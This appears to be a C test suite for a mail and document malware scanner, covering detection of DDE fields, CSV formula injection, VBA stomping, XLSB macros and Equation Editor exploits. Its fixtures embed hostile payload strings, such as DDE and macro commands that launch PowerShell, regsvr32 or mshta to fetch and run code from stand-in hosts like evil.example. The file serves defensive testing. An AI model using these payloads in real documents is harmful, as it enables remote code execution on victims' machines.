		g_free(json);
	}
}
END_TEST

START_TEST(dde_fields)
{
	const char *const dde[] = { "oletools-testdata/msodde/dde-test.docx",
		"oletools-testdata/msodde/dde-test.docm",
		"oletools-testdata/msodde/dde-test.xlsx",
		"oletools-testdata/msodde/dde-test.xlsm", NULL };
	const char *const clean[] = {
		"oletools-testdata/msodde/harmless-clean.docx",
		"oletools-testdata/msodde/harmless-clean.doc", NULL };
	GByteArray *w = g_byte_array_new();
	struct cfb_ent e[1];
	GByteArray *cfb;
	char *json;
	const char *field = "\x13 DDEAUTO \"C:\\Programs\\Microsoft\\"
	    "Office\\MSWord.exe\\..\\..\\..\\..\\windows\\system32\\"
	    "WindowsPowerShell\\v1.0\\powershell.exe -c iex\" \"x\"\x14r\x15"
	    "\x13 DDE Excel \"C:\\\\Book1.xls\" \"R1C1\"\x15";
	const char *const want[] = { "\"OFFICE_DDE\"", "powershell.exe -c iex",
		"\"DDE: DDE Excel", NULL };

	for (size_t i = 0; dde[i] != NULL; i++) {
		const char *const wd[] = { "\"OFFICE_DDE\"", "cmd", NULL };

		if ((json = scan_corpus(dde[i], "x.bin")) == NULL)
			continue;
		tu_want_in(json, wd, true);
		g_free(json);
	}
	for (size_t i = 0; clean[i] != NULL; i++) {
		const char *const wd[] = { "\"OFFICE_DDE\"", NULL };

		if ((json = scan_corpus(clean[i], "x.bin")) == NULL)
			continue;
		tu_want_in(json, wd, false);
		g_free(json);
	}
	/* A binary Word stream: field codes between 0x13 and 0x14/0x15. */
	g_byte_array_set_size(w, 512);
	memset(w->data, 0, 512);
	g_byte_array_append(w, (const uint8_t *)field, strlen(field));
	g_byte_array_set_size(w, 1024);
	e[0] = (struct cfb_ent){ "WordDocument", -1, false, w };
	cfb = cfb_build(e, 1);
	json = tu_scan_file_json(cfb->data, cfb->len, "letter.doc");
	tu_want_in(json, want, true);
	{
		/* A DDE link to Excel is a link (listed), not OFFICE_DDE. */
		const char *sym = strstr(json, "\"symbols\"");
		const char *objs = strstr(json, "\"objects\"");
		char *syms = g_strndup(sym, (gsize)(objs - sym));

		ck_assert_msg(strstr(syms, "Book1") == NULL, "got %s", syms);
		ck_assert_ptr_nonnull(strstr(objs, "Book1.xls"));
		g_free(syms);
	}
	g_free(json);
	g_byte_array_free(cfb, TRUE);
	g_byte_array_free(w, TRUE);
}
END_TEST

/* DDE in a CSV (msodde's case): only the SERVER|TOPIC!ITEM form of a
 * formula cell is a link; ordinary formulas and '|' in text are not. */
START_TEST(csv_dde)
{
	const char *const bad[] = {
		"=cmd|' /C calc'!A0\r\n",
		"name,amount\r\n\"item\",\"=MSEXCEL|'\\..\\..\\Windows\\System32"
		    "\\regsvr32 /s /n /u /i:http://192.0.2.7/x.sct scrobj.dll'!''\""
		    ",3\r\n",
		"a;b\n1;@SUM(cmd|'/c calc'!A0)\n",
		"x\t-2+3+cmd|'/c powershell -nop iex'!A1\tz\n",
		"q|\"+cmd|'/c calc'!A0\"|r\n",
		NULL };
	const char *const good[] = {
		"date,total,check\n2026-12-01,=SUM(B2:B9),=IF(B2>0;\"ok\";\"-\")\n",
		"tel,note\n+81-3-1234|5678!,pipe|separated!text\n",
		"id|name|price\n1|Widget!|=B2*2\n",
		"=HYPERLINK(\"https://example.com/a|b!c\",\"x\")\n",
		NULL };
	const char *const want[] = { "\"OFFICE_DDE\"", "\"DDE: DDE ", NULL };
	const char *const none[] = { "\"OFFICE_DDE\"", "\"DDE: ", NULL };
	char *json;

	for (size_t i = 0; bad[i] != NULL; i++) {
		json = tu_scan_file_json(bad[i], strlen(bad[i]), "list.csv");
		tu_want_in(json, want, true);
		g_free(json);
	}
	for (size_t i = 0; good[i] != NULL; i++) {
		json = tu_scan_file_json(good[i], strlen(good[i]), "list.csv");
		tu_want_in(json, none, false);
		g_free(json);
	}
	/* The same text in a file Excel does not open as a workbook. */
	json = tu_scan_file_json(bad[0], strlen(bad[0]), "notes.txt");
	tu_want_in(json, none, false);
	g_free(json);
	if ((json = scan_corpus("oletools-testdata/msodde/dde-in-csv.csv",
	    "dde-in-csv.csv")) != NULL) {
		const char *const w[] = { "\"OFFICE_DDE\"",
			"Windows\\\\System32\\\\calc.exe", NULL };

		tu_want_in(json, w, true);
		g_free(json);
	}
}
END_TEST

/* A VBA project whose form holds the payload in a control's text. */
START_TEST(userform_text)
{
	static const char mod[] = "Attribute VB_Name = \"Module1\"\r\n"
	    "Sub Go()\r\n  x = UserForm1.TextBox1.Text\r\nEnd Sub\r\n";
	static const char otext[] = "\x00\x02\x18\x00cmd /c powershell -w "
	    "hidden iwr http://evil.example/x.ps1\x00\x00Label1\x00";
	struct cfb_ent e[7];
	GByteArray *src = ovba_compress(mod, strlen(mod));
	GByteArray *dir = vba_dir("Module1");
	GByteArray *empty = g_byte_array_new(), *f = g_byte_array_new();
	GByteArray *o = g_byte_array_new();
	GByteArray *cfb;
	char *json;
	const char *const want[] = { "\"UserForm1 (form text)\"",
		"\"MACRO_SUSPICIOUS\"", "powershell",
		"\"http://evil.example/x.ps1\"", "\"MACRO_URL\"", NULL };

	g_byte_array_append(f, (const uint8_t *)"\x00\x04\x10\x00", 4);
	g_byte_array_append(o, (const uint8_t *)otext, sizeof(otext) - 1);
	e[0] = (struct cfb_ent){ "_VBA_PROJECT_CUR", -1, true, empty };
	e[1] = (struct cfb_ent){ "VBA", 0, true, empty };
	e[2] = (struct cfb_ent){ "dir", 1, false, dir };
	e[3] = (struct cfb_ent){ "Module1", 1, false, src };
	e[4] = (struct cfb_ent){ "UserForm1", 0, true, empty };
	e[5] = (struct cfb_ent){ "f", 4, false, f };
	e[6] = (struct cfb_ent){ "o", 4, false, o };
	cfb = cfb_build(e, 7);
	json = tu_scan_file_json(cfb->data, cfb->len, "vbaProject.bin");
	tu_want_in(json, want, true);
	g_free(json);
	g_byte_array_free(cfb, TRUE);
	g_byte_array_free(src, TRUE);
	g_byte_array_free(dir, TRUE);
	g_byte_array_free(empty, TRUE);
	g_byte_array_free(f, TRUE);
	g_byte_array_free(o, TRUE);
}
END_TEST

/* EvilClippy-style stomping: p-code of a dropper, a decoy source. */
START_TEST(vba_stomped)
{
	static const char decoy[] = "Attribute VB_Name = \"Module1\"\r\n"
	    "Sub Hello()\r\n  MsgBox \"Hello\"\r\nEnd Sub\r\n";
	static const char pcode[] = "\xcc\x61\xff\xff\x00\x00 AutoOpen "
	    "\x01\x00WScript.Shell\x00\x02\x00powershell -w hidden iwr "
	    "http://evil.example/s.ps1\x00\x00\x00";
	GByteArray *code = g_byte_array_new(), *src, *dir;
	GByteArray *empty = g_byte_array_new();
	struct cfb_ent e[4];
	GByteArray *cfb;
	char *json;
	const char *const want[] = { "\"VBA_STOMPED\"",
		"Module1: p-code has WScript.Shell", "p-code has powershell",
		"p-code has http://evil.example/s.ps1", NULL };
	const char *const not[] = { "\"MACRO_SUSPICIOUS\"", NULL };

	g_byte_array_append(code, (const uint8_t *)pcode, sizeof(pcode) - 1);
	src = ovba_compress(decoy, strlen(decoy));
	dir = vba_dir_at("Module1", code->len);
	g_byte_array_append(code, src->data, src->len);
	e[0] = (struct cfb_ent){ "_VBA_PROJECT_CUR", -1, true, empty };
	e[1] = (struct cfb_ent){ "VBA", 0, true, empty };
	e[2] = (struct cfb_ent){ "dir", 1, false, dir };
	e[3] = (struct cfb_ent){ "Module1", 1, false, code };
	cfb = cfb_build(e, 4);
	json = tu_scan_file_json(cfb->data, cfb->len, "vbaProject.bin");
	tu_want_in(json, want, true);
	tu_want_in(json, not, false);	/* the decoy source is clean */
	g_free(json);
	g_byte_array_free(cfb, TRUE);

	/* The same p-code with its own source: not stomped. */
	{
		static const char real[] = "Attribute VB_Name = \"Module1\""
		    "\r\nSub AutoOpen()\r\n Set s = CreateObject(\"WScript."
		    "Shell\")\r\n s.Run \"powershell -w hidden iwr http://"
		    "evil.example/s.ps1\"\r\nEnd Sub\r\n";

		g_byte_array_free(src, TRUE);
		g_byte_array_free(dir, TRUE);
		g_byte_array_set_size(code, 0);
		g_byte_array_append(code, (const uint8_t *)pcode,
		    sizeof(pcode) - 1);
		src = ovba_compress(real, strlen(real));
		dir = vba_dir_at("Module1", code->len);
		g_byte_array_append(code, src->data, src->len);
		e[2].data = dir;
		e[3].data = code;
		cfb = cfb_build(e, 4);
		json = tu_scan_file_json(cfb->data, cfb->len, "vbaProject.bin");
		ck_assert_msg(strstr(json, "\"VBA_STOMPED\"") == NULL,
		    "source matches its p-code: %.2000s", json);
		ck_assert_ptr_nonnull(strstr(json, "\"MACRO_SUSPICIOUS\""));
		g_free(json);
		g_byte_array_free(cfb, TRUE);
	}
	g_byte_array_free(src, TRUE);
	g_byte_array_free(dir, TRUE);
	g_byte_array_free(code, TRUE);
	g_byte_array_free(empty, TRUE);
}
END_TEST

/* BIFF12 (.xlsb) macro sheet cells and workbook names. */
START_TEST(xlsb_formulas)
{
	/* BrtRowHdr row 4; BrtFmlaBool at column 1: EXEC("calc.exe"). */
	static const uint8_t sheet[] = { 0x00, 0x04, 0x04, 0x00, 0x00, 0x00,
		0x0a, 0x2a, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
		0x00, 0x00, 0x00, 0x17, 0x00, 0x00, 0x00, 0x17, 0x08, 0x00,
		'c', 0, 'a', 0, 'l', 0, 'c', 0, '.', 0, 'e', 0, 'x', 0, 'e', 0,
		0x42, 0x01, 0x6e, 0x00, 0x00, 0x00, 0x00, 0x00 };
	/* BrtName "Auto_Open" (flags, chKey, itab, name). */
	static const uint8_t book[] = { 0x27, 0x1f, 0x20, 0, 0, 0, 0, 0xff,
		0xff, 0xff, 0xff, 0x09, 0, 0, 0, 'A', 0, 'u', 0, 't', 0, 'o', 0,
		'_', 0, 'O', 0, 'p', 0, 'e', 0, 'n', 0 };
	GString *out = g_string_new(NULL);
	struct emf_biff_info bi = { 0 };
	char *json;

	ck_assert_uint_eq(emf_xlsb_formulas(sheet, sizeof(sheet), NULL, out),
	    1);
	ck_assert_str_eq(out->str, "B5: =EXEC(\"calc.exe\")\n");
	for (size_t n = 0; n < sizeof(sheet); n++) {
		g_string_truncate(out, 0);
		emf_xlsb_formulas(sheet, n, NULL, out);
	}
	emf_xlsb_names(book, sizeof(book), &bi);
	ck_assert_msg(bi.auto_names != NULL && strcmp(g_ptr_array_index(
	    bi.auto_names, 0), "Auto_Open") == 0, "Auto_Open not read");
	emf_biff_info_clear(&bi);
	g_string_free(out, TRUE);
	/* The real sample: the same formulas as its .xls twin. */
	if ((json = scan_corpus("oletools-testdata/excel4-macros/"
	    "excel4_sample_macro.xlsb", "x.xlsb")) != NULL) {
		const char *const w[] = { "\"MACRO_AUTOEXEC\"",
			"\"XLM formulas\",\"sha256\":\"a58292c4b26a1d33",
			NULL };

		tu_want_in(json, w, true);
		g_free(json);
	}
}
END_TEST

/* The DDE link of an .xlsb: a BrtBeginSupBook of type DDE. */
START_TEST(xlsb_dde_link)
{
	/* BrtBeginSupBook (360): sbt 1, "cmd", "/c calc"; then an external
	 * workbook one (sbt 0) that is not a DDE link. */
	static const uint8_t part[] = { 0xe8, 0x02, 0x1e, 0x01, 0x00,
		0x03, 0, 0, 0, 'c', 0, 'm', 0, 'd', 0,
		0x07, 0, 0, 0, '/', 0, 'c', 0, ' ', 0, 'c', 0, 'a', 0, 'l', 0,
		'c', 0,
		0xe8, 0x02, 0x0e, 0x00, 0x00, 0x02, 0, 0, 0, 'x', 0, '1', 0,
		0xff, 0xff, 0xff, 0xff };
	GPtrArray *out = g_ptr_array_new_with_free_func(g_free);
	char *json;

	ck_assert_uint_eq(emf_xlsb_dde_links(part, sizeof(part), out, 16), 1);
	ck_assert_str_eq(g_ptr_array_index(out, 0), "DDE cmd /c calc");
	for (size_t n = 0; n < sizeof(part); n++) {
		g_ptr_array_set_size(out, 0);
		ck_assert_uint_le(emf_xlsb_dde_links(part, n, out, 16), 1);
	}
	g_ptr_array_free(out, TRUE);
	if ((json = scan_corpus("oletools-testdata/msodde/dde-test.xlsb",
	    "x.xlsb")) != NULL) {
		const char *const w[] = { "\"OFFICE_DDE\"",
			"\"DDE: DDE cmd /c calc.exe\"", NULL };

		tu_want_in(json, w, true);
		g_free(json);
	}
}
END_TEST

/* An Equation Native stream: the overflowing FONT record or a real one. */
static char *
equation_scan(const char *font)
{
	GByteArray *eq = g_byte_array_new();
	struct cfb_ent e[2];
	GByteArray *empty = g_byte_array_new(), *cfb;
	uint8_t hdr[28] = { 0x1c, 0x00, 0x00, 0x00, 0x02, 0x00 };
	uint8_t mtef[] = { 0x03, 0x01, 0x01, 0x03, 0x0a, 0x0a, 0x01, 0x08,
		0x5a, 0x5a };
	char *json;

	g_byte_array_append(eq, hdr, sizeof(hdr));
	g_byte_array_append(eq, mtef, sizeof(mtef));
	g_byte_array_append(eq, (const uint8_t *)font, strlen(font) + 1);
	g_byte_array_set_size(eq, 600);
	e[0] = (struct cfb_ent){ "ObjectPool", -1, true, empty };
	e[1] = (struct cfb_ent){ "Equation Native", 0, false, eq };
	cfb = cfb_build(e, 2);
	json = tu_scan_file_json(cfb->data, cfb->len, "oleObject1.bin");
	g_byte_array_free(cfb, TRUE);
	g_byte_array_free(eq, TRUE);
	g_byte_array_free(empty, TRUE);
	return json;
}

START_TEST(equation_objects)
{
	char *json = equation_scan("cmd.exe /c mshta http://evil.example/x "
	    "&AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA");
	const char *const bad[] = { "\"OFFICE_EXPLOIT_CLASS\"",
		"overlong font name", "\"action\":\"quarantine\"", NULL };
	const char *const ok[] = { "\"OFFICE_EQUATION_OBJECT\"", NULL };
	const char *const not[] = { "\"OFFICE_EXPLOIT_CLASS\"", NULL };

	tu_want_in(json, bad, true);
	g_free(json);
	json = equation_scan("Times New Roman");
	tu_want_in(json, ok, true);
	tu_want_in(json, not, false);
	g_free(json);
	/* Real equations (Tika govdocs, POI): the object, not the exploit. */
	if ((json = scan_corpus("tika-office/testMSEquation-govdocs-863534.doc",
	    "x.doc")) != NULL) {
		tu_want_in(json, ok, true);
		tu_want_in(json, not, false);
		g_free(json);
	}
}
END_TEST

/* Word 2003 XML, SpreadsheetML 2003, flat OPC: one XML file each. */
START_TEST(office_xml_single_file)
{
	const char *w2003 = "<?xml version=\"1.0\"?><?mso-application "
	    "progid=\"Word.Document\"?><w:wordDocument xmlns:w=\"x\"><w:body>"
	    "<w:p><w:fldSimple w:instr=\" DDEAUTO cmd.exe &quot;/c calc&quot; "
	    "\"/><w:r><w:t>Invoice</w:t></w:r></w:p><w:binData w:name=\""
	    "wordml://payload.exe\">TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAA</w:binData>"
	    "</w:body></w:wordDocument>";
	const char *plain = "<?xml version=\"1.0\"?><note><to>x</to>"
	    "<body>=cmd|'/c calc'!A1</body></note>";
	const char *const want[] = { "\"OFFICE_DDE\"", "\"Word 2003 XML\"",
		"doc.xml/payload.exe", NULL };
	const char *const none[] = { "\"OFFICE_DDE\"", NULL };
	char *json;

	json = tu_scan_file_json((const uint8_t *)w2003, strlen(w2003), "doc.xml");
	tu_want_in(json, want, true);
	g_free(json);
	/* XML that is not Office's: not read as a document. */
	json = tu_scan_file_json((const uint8_t *)plain, strlen(plain), "note.xml");
	tu_want_in(json, none, false);
	g_free(json);
	if ((json = scan_corpus("oletools-testdata/msodde/dde-in-excel2003.xml",
	    "a.xml")) != NULL) {
		const char *const w[] = { "\"OFFICE_DDE\"", "DDE cmd '/c calc.exe'",
			"\"SpreadsheetML 2003\"", NULL };

		tu_want_in(json, w, true);
		g_free(json);
	}
	if ((json = scan_corpus("oletools-testdata/msodde/harmless-clean-2003"
	    ".xml", "a.xml")) != NULL) {
		tu_want_in(json, none, false);
		g_free(json);
	}
	if ((json = scan_corpus("oletools-testdata/oleobj/"
	    "embedded-simple-2007.xml", "a.xml")) != NULL) {
		const char *const w[] = { "a.xml/oleObject1.bin",
			"\"OOXML flat package\"", NULL };

		tu_want_in(json, w, true);
		g_free(json);
	}
}
END_TEST

/*
 * msodde's .doc and Word XML samples sit in password zips: mailed with
 * the password in the body, as Emotet sends them, they are opened and
 * their DDE fields found (binary .doc field codes, UTF-16 Korean text,
 * Word 2003 and 2007 XML).
 */
START_TEST(corpus_dde_in_password_zips)
{
	const char *const zips[] = { "dde-test-from-office2003.doc.zip",
		"dde-test-from-office2016.doc.zip",
		"dde-test-from-office2013-utf_16le-korean.doc.zip",
		"dde-in-word2003.xml.zip", "dde-in-word2007.xml.zip", NULL };
	struct emf_engine *e = NULL;

	for (size_t i = 0; zips[i] != NULL; i++) {
		char *rel = g_strdup_printf("oletools-testdata/msodde/%s",
		    zips[i]);
		char *path = tu_corpus(rel);
		gchar *d = NULL, *b64, *msg, *json;
		gsize len;
		struct emf_report *r = NULL;
		const char *const w[] = { "\"OFFICE_DDE\"",
			"\"ARCHIVE_PASSWORD_IN_BODY\"", NULL };

		g_free(rel);
		if (path == NULL || !g_file_get_contents(path, &d, &len,
		    NULL)) {
			g_free(path);
			continue;
		}
		if (e == NULL)
			e = tu_engine(NULL);
		b64 = g_base64_encode((const guchar *)d, len);
		msg = g_strdup_printf("From: a@example.com\r\nTo: b@example.org"
		    "\r\nSubject: doc\r\nMIME-Version: 1.0\r\nContent-Type: "
		    "multipart/mixed; boundary=B\r\n\r\n--B\r\nContent-Type: "
		    "text/plain\r\n\r\nPassword: infected-test\r\n--B\r\n"
		    "Content-Type: application/zip; name=\"%s\"\r\n"
		    "Content-Transfer-Encoding: base64\r\n\r\n%s\r\n--B--\r\n",
		    zips[i], b64);
		ck_assert_int_eq(emf_scan_message(e, msg, strlen(msg), NULL,
		    &r), EMF_OK);
		json = emf_report_json(r, false);
		tu_want_in(json, w, true);
		g_free(json);
		emf_report_free(r);
		g_free(msg);
		g_free(b64);
		g_free(d);
		g_free(path);
	}
	if (e != NULL)
		emf_engine_unref(e);
}
END_TEST

/* oleobj's samples: OLE packages inside .doc and .ppt, unpacked. */
START_TEST(corpus_ole_packages)
{
	const char *const exe[] = {
		"oletools-testdata/oleobj/sample_with_calc_embedded.doc",
		"oletools-testdata/oleobj/sample_with_lnk_file.ppt", NULL };
	char *json;

	for (size_t i = 0; exe[i] != NULL; i++) {
		const char *const w[] = { "\"OFFICE_PACKAGE_EXECUTABLE\"",
			"\"EXECUTABLE_ATTACHMENT\"",
			"\"action\":\"quarantine\"", NULL };

		if ((json = scan_corpus(exe[i], "x.bin")) == NULL)
			continue;
		tu_want_in(json, w, true);
		g_free(json);
	}
	/* A package that runs a command line (type 1, no file). */
	if ((json = scan_corpus("oletools-testdata/oleobj/"
	    "sample_with_lnk_to_calc.doc", "x.doc")) != NULL) {
		/* No payload child to judge: the link itself is the
		 * executable, as an embedded one would be. */
		const char *const w[] = { "\"OFFICE_PACKAGE_EXECUTABLE\"",
			"calc.exe (a link: runs it)", "\"EXECUTABLE_ATTACHMENT\"",
			"\"action\":\"quarantine\"", NULL };

		tu_want_in(json, w, true);
		g_free(json);
	}
	/* A package holding a text file: a child, no sign. */
	if ((json = scan_corpus("oletools-testdata/oleobj/"
	    "embedded-simple-2007.doc", "x.doc")) != NULL) {
		const char *const w[] = { "\"OFFICE_PACKAGE_EXECUTABLE\"",
			"\"EXECUTABLE_ATTACHMENT\"", NULL };

		tu_want_in(json, w, false);
		ck_assert_msg(strstr(json, "\"children\":[{") != NULL,
		    "no embedded object unpacked:\n%.3000s", json);
		g_free(json);
	}
}
END_TEST

static Suite *
office_suite(void)
{
	Suite *s = suite_create("office");
	TCase *tc = tcase_create("core");

	tcase_add_test(tc, ole_workbook_named_xlsm);
	tcase_add_test(tc, ooxml_remote_template_and_vba);
	tcase_add_test(tc, corpus_xls_named_xlsm);
	tcase_add_test(tc, text_runs_hold_lure);
	tcase_add_test(tc, xml_text_decodes_entities);
	tcase_add_test(tc, xml_text_numeric_reference_overflow);
	tcase_add_test(tc, biff_walk_sheets_names_filepass);
	tcase_add_test(tc, sylk_macro_sheet);
	tcase_add_test(tc, biff_formulas_decode);
	tcase_add_test(tc, xlm_formula_tokens);
	tcase_add_test(tc, xlm_dropper_end_to_end);
	tcase_add_test(tc, corpus_excel4_formulas);
	tcase_add_test(tc, ooxml_external_links_and_schemes);
	tcase_add_test(tc, dde_fields);
	tcase_add_test(tc, csv_dde);
	tcase_add_test(tc, corpus_ole_packages);
	tcase_add_test(tc, userform_text);
	tcase_add_test(tc, vba_stomped);
	tcase_add_test(tc, xlsb_formulas);
	tcase_add_test(tc, xlsb_dde_link);
	tcase_add_test(tc, equation_objects);
	tcase_add_test(tc, office_xml_single_file);
	tcase_add_test(tc, corpus_dde_in_password_zips);
	suite_add_tcase(s, tc);
	return s;
}

int
main(void)
{
	return tu_run(office_suite());
}
